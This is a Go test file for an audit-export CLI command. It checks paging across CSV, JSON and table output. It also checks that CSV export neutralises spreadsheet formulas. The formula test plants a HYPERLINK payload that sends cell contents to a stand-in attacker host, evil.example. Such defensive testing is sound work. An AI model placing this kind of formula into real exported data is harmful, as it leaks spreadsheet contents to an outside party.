package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/stretchr/testify/require"

	"github.com/ror-ikt/tilgang/internal/api"
	"github.com/ror-ikt/tilgang/internal/ledger"
	"github.com/ror-ikt/tilgang/internal/streams"
)

// TestAuditPagesThrough: `tilgang audit` over more rows than a page holds
// (by count, and by bytes where the texts are long) asks page after page
// and prints every row once, in order, in each format.
func TestAuditPagesThrough(t *testing.T) {
	w := newWorld(t)
	w.serveAPI(t)
	const n = api.MaxAuditRows + 500
	long := strings.Repeat("grunngjeving, lang; ", 100) // 2000 characters, as the intake allows at most
	tx, err := w.store.Begin(context.Background())
	require.NoError(t, err)
	now := time.Now().UTC().Truncate(time.Millisecond)
	for i := range n {
		e := ledger.AuditEntry{At: now, Kind: "grant.state", Person: person, System: "gerica", To: "active"}
		if i < 300 {
			e.Text = long
		}
		if i%2 == 1 {
			e.Person = "1547-10999"
		}
		tx.Audit(e)
	}
	require.NoError(t, tx.Commit())

	var calls atomic.Int64
	sub, err := w.nc.Subscribe(streams.APIPrefix+api.MethodAudit, func(*nats.Msg) { calls.Add(1) })
	require.NoError(t, err)
	t.Cleanup(func() { sub.Unsubscribe() })
	require.NoError(t, w.nc.Flush())
	run := func(t *testing.T, args ...string) string {
		t.Helper()
		calls.Store(0)
		code, out, errOut := w.run(t, nil, append([]string{"audit"}, args...)...)
		require.Equal(t, 0, code, errOut)
		return out
	}
	seqs := func(from, to, step int) []string {
		var out []string
		for s := from; s <= to; s += step {
			out = append(out, strconv.Itoa(s))
		}
		return out
	}

	t.Run("csv", func(t *testing.T) {
		rows, err := csv.NewReader(strings.NewReader(run(t, "--format", "csv"))).ReadAll()
		require.NoError(t, err)
		require.Equal(t, auditHeader, rows[0], "one header")
		var got []string
		for _, r := range rows[1:] {
			got = append(got, r[0])
		}
		require.Equal(t, seqs(1, n, 1), got)
		require.Equal(t, long, rows[300][13])
		require.GreaterOrEqual(t, calls.Load(), int64(3), "a page of long texts, a page of 1000 rows, the rest")
	})
	t.Run("json is one list", func(t *testing.T) {
		out := run(t, "--format", "json")
		var rows []api.AuditRow
		require.NoError(t, json.Unmarshal([]byte(out), &rows))
		require.Equal(t, n, len(rows))
		var whole bytes.Buffer
		require.NoError(t, writeJSON(&whole, rows))
		require.Equal(t, whole.String(), out, "the same bytes as the list encoded at once")
		require.GreaterOrEqual(t, calls.Load(), int64(3))
	})
	t.Run("table", func(t *testing.T) {
		lines := strings.Split(strings.TrimSuffix(run(t), "\n"), "\n")
		require.Equal(t, 1+n, len(lines))
		require.True(t, strings.HasPrefix(lines[0], "SEQ"))
		require.True(t, strings.HasPrefix(lines[n], strconv.Itoa(n)+" "))
	})
	t.Run("filtered", func(t *testing.T) {
		rows, err := csv.NewReader(strings.NewReader(run(t, "--person", person, "--format", "csv"))).ReadAll()
		require.NoError(t, err)
		var got []string
		for _, r := range rows[1:] {
			require.Equal(t, person, r[3])
			got = append(got, r[0])
		}
		require.Equal(t, seqs(1, n, 2), got)
	})
	t.Run("nothing", func(t *testing.T) {
		require.Equal(t, "[]\n", run(t, "--person", "1547-77777", "--format", "json"))
		code, out, errOut := w.run(t, nil, "audit", "--person", "1547-77777")
		require.Equal(t, 0, code)
		require.Empty(t, out)
		require.Contains(t, errOut, "no audit rows that you may see")
	})
}

// TestAuditCSVNeutralisesFormulas: a reason or name that a spreadsheet
// would run as a formula is exported as text.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	w := newWorld(t)
	w.serveAPI(t)
	tx, err := w.store.Begin(context.Background())
	require.NoError(t, err)
	evil := `=HYPERLINK("https://evil.example/?"&A1,"Klikk")`
	tx.Audit(ledger.AuditEntry{At: time.Now().UTC(), Kind: "request.accepted", Person: person, System: "gerica", Text: evil})
	tx.Audit(ledger.AuditEntry{At: time.Now().UTC(), Kind: "request.accepted", Person: person, System: "gerica", Text: "-42"})
	require.NoError(t, tx.Commit())
	code, out, errOut := w.run(t, nil, "audit", "--format", "csv")
	require.Equal(t, 0, code, errOut)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	require.Equal(t, "'"+evil, rows[1][13], "a formula becomes text")
	require.Equal(t, "-42", rows[2][13], "a number stays a number")
}
